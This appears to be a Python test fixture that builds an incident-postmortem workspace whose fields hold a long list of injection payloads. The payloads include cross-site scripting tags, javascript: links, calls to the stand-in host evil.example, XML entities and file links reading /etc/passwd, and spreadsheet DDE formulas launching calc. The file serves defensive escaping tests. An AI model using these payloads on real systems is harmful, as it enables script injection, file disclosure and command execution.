"""A workspace in which every field holds every payload, and what counts as one that worked."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pandas as pd

from pmkit import schema
from pmkit.workspace import Workspace

# Each sets window.__x, asks evil.example, reads a file of the machine, or has a program compute or fetch.
PAYLOADS = (
    "<script>window.__x=1</script>", '<img src=x onerror="window.__x=1">', '<svg onload="window.__x=1">',
    '<iframe src="javascript:window.top.__x=1"></iframe>', "</script><script>window.__x=1</script>",
    '"><script>window.__x=1</script>', "'-window.__x-'", '<a href="javascript:window.__x=1">click</a>',
    "[click](javascript:window.__x=1)", "[click](<javascript:window.__x=1>)", "<javascript:window.__x=1>",
    "[x]: javascript:window.__x=1", "![x](https://evil.example/p.png)", "![x](file:///etc/passwd)",
    "[d](data:text/html,<script>window.__x=1</script>)", "<style>@import url(https://evil.example/x)</style>",
    "background:url(https://evil.example/b)", "expression(window.__x=1)",
    "<!--><script>window.__x=1</script>-->",
    "]]><script>window.__x=1</script><![CDATA[", "<math><mtext><script>window.__x=1</script>",
    '<object data="https://evil.example/x"></object><embed src=x>', "<base href=https://evil.example/>",
    '<meta http-equiv=refresh content="0;url=https://evil.example/">', "<details open ontoggle=window.__x=1>",
    "<form action=https://evil.example/><input autofocus onfocus=window.__x=1>", "&lt;script&gt;window.__x=1",
    '<ac:structured-macro ac:name="html"><ac:plain-text-body>x</ac:plain-text-body></ac:structured-macro>',
    '<ri:url ri:value="https://evil.example/"/>', "{html}<script>window.__x=1</script>{html}",
    '#read("/etc/passwd") #panic() #image("/etc/passwd")', "$ x $ <lab> @ref `#eval`", "{{ 7*7 }}",
    '=HYPERLINK("https://evil.example/","x")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)",
    "\t=1+1", "=cmd|'/C calc'!A1", "\uff1d1+1", '{ INCLUDETEXT "/etc/passwd" }', "{ DDEAUTO c:\\\\calc.exe }",
    "<w:instrText> DDE </w:instrText>", "x\r\nATTENDEE:mailto:eve@evil.example\r\nBEGIN:VALARM",
    "x\nEND:VEVENT\nBEGIN:VEVENT", "file:///etc/passwd", "\\\\evil.example\\share", "```mermaid\ngraph\n```",
    '<a xlink:href="javascript:window.__x=1"><text>x</text></a>', "<foreignObject><body onload=window.__x=1>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;", "\u202egnp.exe", "@everyone #1 a/b#2",
    "<br><br>`unclosed", "| a | b |\n|---|---|\n| 1 | 2 |", "---\ntitle: x\n---", "[[x]] ![[x]]",
)  # fmt: skip
BEGAN = datetime(2026, 11, 3, 7, 0, tzinfo=UTC)


def make_hostile(folder: Path) -> Workspace:
    """The workspace; each column holds each payload, three in a cell, and begins with another in each row."""
    workspace = Workspace.create(
        folder, title=" ".join(PAYLOADS[:6]).replace("{{", "{"), severity="P1",
        services=[PAYLOADS[0], PAYLOADS[33]], now=BEGAN + timedelta(days=1),
    )  # fmt: skip
    for name in ("timeline", "impact", "factors", "decisions", "actions", "checkins", "questions", "raci"):
        table = schema.TABLES[name]
        rows = [_row(table, number) for number in range(len(PAYLOADS) // 3 + 1)]
        workspace.save_table(name, schema.conform(pd.DataFrame(rows), table))
    for name in ("summary", "impact", "root-cause", "went-well", "went-badly", "lucky", "lessons"):
        said = [payload for payload in PAYLOADS if "{{" not in payload]
        workspace.save_note(name, "\n\n".join(said + [f"- {payload}" for payload in said]) + "\n")
    return workspace


def _row(table: schema.Table, number: int) -> dict[str, Any]:
    row: dict[str, Any] = {}
    for place, column in enumerate(table.columns):
        if column.name == "mark":
            row[column.name] = schema.MARKS[number] if number < len(schema.MARKS) else ""
        elif column.name == "included":
            row[column.name] = "yes"
        elif column.choices:
            row[column.name] = column.choices[number % len(column.choices)]
        elif column.name in table.key:
            prefix = "manual:" if table.name == "timeline" else ""
            row[column.name] = f"{prefix}{number} {' '.join(PAYLOADS[3 * number : 3 * number + 3])}"
        elif column.name == "ended_at":
            continue
        elif column.type == "time":
            row[column.name] = BEGAN + timedelta(minutes=number)
        elif column.type == "date":
            row[column.name] = "2026-12-01"
        elif column.type in ("int", "float"):
            row[column.name] = number
        elif column.type == "str":
            three = [PAYLOADS[(3 * number + place + step) % len(PAYLOADS)] for step in range(3)]
            row[column.name] = "\n".join(three).replace("{{", "{ {")
    return row
